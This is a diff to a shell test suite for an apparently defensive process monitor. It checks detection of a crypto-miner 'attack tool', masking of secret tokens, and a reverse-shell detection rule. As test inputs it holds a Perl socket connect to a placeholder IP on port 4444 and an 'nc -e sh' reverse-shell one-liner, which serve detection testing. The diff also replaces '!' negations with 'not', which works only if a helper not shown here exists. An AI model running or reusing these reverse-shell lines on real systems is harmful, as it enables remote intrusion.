@@ -55,10 +55,10 @@ sees() { # NAME JQ-CONDITION
 	# As a record has it, secrets masked; nothing is done about it and nothing kept.
 	jq -e --argjson pid "$(cat "$T/pid")" '.threats[0] | .level == "high" and .title == "Attack tool" and .action == "logged" and
 		.evidence.process.pid == $pid and (.evidence.process.command | test("--token=\\*\\*\\*"))' "$T/json"
-	! grep -q 'Attack tool' "$HOME/.coi/audit/m1.jsonl"
+	not grep -q 'Attack tool' "$HOME/.coi/audit/m1.jsonl"
 
 	coi monitor m1 >"$T/text" 2>/dev/null
-	! grep -qP '[\x00-\x08\x0b-\x1f\x7f]' "$T/text"
+	not grep -qP '[\x00-\x08\x0b-\x1f\x7f]' "$T/text"
 	grep -q '203.0.113.10:80' "$T/text"
 	grep -q '^Threats: 1$' "$T/text"
 	grep -q '  high: Attack tool: .*/tmp/xmrig' "$T/text"
@@ -128,10 +128,10 @@ sees() { # NAME JQ-CONDITION
 	jq -e 'length == 1 and .[0].rule == "reverse-shell.dev-tcp" and .[0].level == "critical" and .[0].action == "killed"' "$T/found"
 	printf 'reverse_shell_one_liners = "off"\n' >>"$HOME/.coi/config.toml"
 	coi monitor patterns test --json -- perl -e 'use Socket; socket(S,PF_INET,SOCK_STREAM,6); connect(S,sockaddr_in(4444,inet_aton("203.0.113.10")))' >"$T/found"
-	! jq -e '.[] | select(.level == "critical")' "$T/found"
+	not jq -e '.[] | select(.level == "critical")' "$T/found"
 	# Nothing of it reaches the terminal as it is.
 	run -0 coi monitor patterns test "$(printf 'nc -e \033]0;x\007sh 1.2.3.4 5')"
-	! grep -qP '[\x00-\x08\x0b-\x1f\x7f]' <<<"$output"
+	not grep -qP '[\x00-\x08\x0b-\x1f\x7f]' <<<"$output"
 	run ! coi monitor patterns test
 }
 
@@ -178,8 +178,8 @@ sees() { # NAME JQ-CONDITION
 	# Of one: no column for whose they are, and nothing raw on the terminal.
 	coi top t2 -i 0.3 --sort mem >"$T/text"
 	head -n 1 "$T/text" | grep -qx 'PID  *USER  *CPU%  *MEM  *COMMAND'
-	! grep -qP '[\x00-\x08\x0b-\x1f\x7f]' "$T/text"
-	! grep -q while "$T/text"
+	not grep -qP '[\x00-\x08\x0b-\x1f\x7f]' "$T/text"
+	not grep -q while "$T/text"
 	grep -q 'coi kill' "$T/text"
 
 	"$COI" top -i 0.1 --watch 1 >"$T/watched" 2>&1 3>&- &
